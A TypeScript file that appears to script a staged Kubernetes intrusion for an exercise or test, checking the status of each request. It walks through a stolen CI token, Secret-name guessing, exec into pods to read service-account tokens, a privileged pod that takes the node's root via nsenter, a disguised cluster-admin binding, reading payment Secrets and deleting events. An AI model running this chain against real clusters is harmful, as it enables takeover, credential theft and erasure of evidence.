/** The attack in the midst of it, step by step. Everything is done by real requests; nothing is done to a real machine. */
import { type Act, expectStatus, first, think } from './stage.ts'

export const attack: readonly Act[] = [
  {
    minute: 14.2,
    what: 'ATTACK 1: somebody without credentials probes the API server',
    act: async ({ stranger }) => {
      expectStatus(await stranger.client.get('/version'), 200)
      expectStatus(await stranger.client.get('/healthz'), 200)
      for (const path of probes) {
        expectStatus(await stranger.client.get(path), 403)
        await think(1.2)
      }
    },
  },
  {
    minute: 16.6,
    what: 'ATTACK 2: the token of ci/deployer is used from outside, by another program',
    act: async ({ thief }) => {
      const review = { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' }
      expectStatus(await thief.client.post('/apis/authentication.k8s.io/v1/selfsubjectreviews', review), 201)
      for (const namespace of namespaces) {
        const rules = { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace } }
        expectStatus(await thief.client.post('/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', rules), 201)
        await think(1.5)
      }
      for (const namespace of namespaces) {
        expectStatus(await thief.list(`/api/v1/namespaces/${namespace}/pods`), 200)
        await think(1)
      }
    },
  },
  {
    minute: 18.1,
    what: 'ATTACK 3: it asks for Secrets by name, and is refused each time',
    act: async ({ thief }) => {
      for (const namespace of namespaces) {
        expectStatus(await thief.list(`/api/v1/namespaces/${namespace}/secrets`), 403)
        for (const name of guesses) {
          expectStatus(await thief.client.get(`/api/v1/namespaces/${namespace}/secrets/${name}`), 403)
          await think(0.3)
        }
      }
    },
  },
  {
    minute: 20.6,
    what: 'ATTACK 4: it runs commands in a web pod and in a payments pod',
    act: async ({ thief }) => {
      const web = first(await thief.pods('shop', 'web'))
      expectStatus(await thief.exec('shop', web, ['id']), 101)
      await think(6)
      const tokenFile = '/var/run/secrets/kubernetes.io/serviceaccount/token'
      expectStatus(await thief.exec('shop', web, ['cat', tokenFile]), 101)
      await think(10)
      const api = first(await thief.pods('payments', 'api'))
      expectStatus(await thief.exec('payments', api, ['cat', tokenFile]), 101)
    },
  },
  {
    minute: 22.3,
    what: 'ATTACK 5: it makes a privileged pod with the node’s root; two namespaces refuse, ci does not',
    act: async ({ thief }) => {
      for (const namespace of ['payments', 'shop']) {
        expectStatus(await thief.client.post(`/api/v1/namespaces/${namespace}/pods`, hostPod), 403)
        await think(4)
      }
      expectStatus(await thief.client.post('/api/v1/namespaces/ci/pods', hostPod), 201)
      await think(5)
      expectStatus(await thief.exec('ci', 'runner-cache-warmer', ['hostname']), 101)
    },
  },
  {
    minute: 24.3,
    what: 'ATTACK 6: with a token found on the node, it binds ci/deployer to cluster-admin',
    act: async ({ thiefAsAddonManager }) => {
      expectStatus(await thiefAsAddonManager.list('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings'), 200)
      await think(4)
      expectStatus(
        await thiefAsAddonManager.client.post('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'system-metrics-aggregator' },
          roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
          subjects: [{ kind: 'ServiceAccount', name: 'deployer', namespace: 'ci' }],
        }),
        201,
      )
    },
  },
  {
    minute: 25.2,
    what: 'ATTACK 7: now it may read every Secret, and does',
    act: async ({ thief }) => {
      expectStatus(await thief.list('/api/v1/secrets'), 200)
      await think(3)
      for (const name of ['database', 'stripe']) {
        expectStatus(await thief.client.get(`/api/v1/namespaces/payments/secrets/${name}`), 200)
        await think(2)
      }
    },
  },
  {
    minute: 26.5,
    what: 'ATTACK 8: it deletes its pod and the events that tell of it',
    act: async ({ thief }) => {
      expectStatus(await thief.client.delete('/api/v1/namespaces/ci/pods/runner-cache-warmer'), 200)
      await think(3)
      for (const namespace of ['ci', 'shop', 'payments']) {
        expectStatus(await thief.client.delete(`/api/v1/namespaces/${namespace}/events`), 200)
        await think(2)
      }
    },
  },
  {
    minute: 29.2,
    what: 'ATTACK 9: it comes back, and the token is worth nothing any more',
    act: async ({ thief }) => {
      for (let n = 0; n < 3; n++) {
        expectStatus(await thief.list('/api/v1/namespaces/payments/pods'), 401)
        await think(4)
      }
    },
  },
]

const namespaces = ['ci', 'shop', 'payments', 'monitoring', 'kube-system']

const guesses = [
  'admin',
  'admin-token',
  'aws-credentials',
  'backup',
  'ca-key',
  'credentials',
  'database',
  'db-password',
  'docker-config',
  'github-token',
  'gcp-key',
  'jwt',
  'kubeconfig',
  'ldap',
  'mysql',
  'oauth',
  'password',
  'postgres',
  'redis',
  'registry-pull',
  'registry-push',
  'root',
  's3',
  'session-key',
  'smtp',
  'ssh-key',
  'stripe',
  'tls',
  'vault-token',
  'webhook',
]

const probes = [
  '/',
  '/api',
  '/apis',
  '/api/v1',
  '/api/v1/namespaces',
  '/api/v1/pods',
  '/api/v1/secrets',
  '/api/v1/nodes',
  '/api/v1/namespaces/kube-system/secrets',
  '/api/v1/namespaces/kube-system/configmaps',
  '/apis/apps/v1/deployments',
  '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
  '/openapi/v2',
  '/swagger.json',
  '/metrics',
  '/logs/',
  '/debug/pprof/',
  '/ui',
  '/.env',
  '/.git/config',
  '/actuator/health',
  '/console',
]

/** The pod that gives its maker the node. */
const hostPod = {
  metadata: { name: 'runner-cache-warmer', labels: { app: 'runner' } },
  spec: {
    hostPID: true,
    hostNetwork: true,
    containers: [
      {
        name: 'warmer',
        image: 'alpine:3.22',
        command: ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh'],
        securityContext: { privileged: true },
        volumeMounts: [{ name: 'host', mountPath: '/host' }],
      },
    ],
    volumes: [{ name: 'host', hostPath: { path: '/' } }],
  },
}
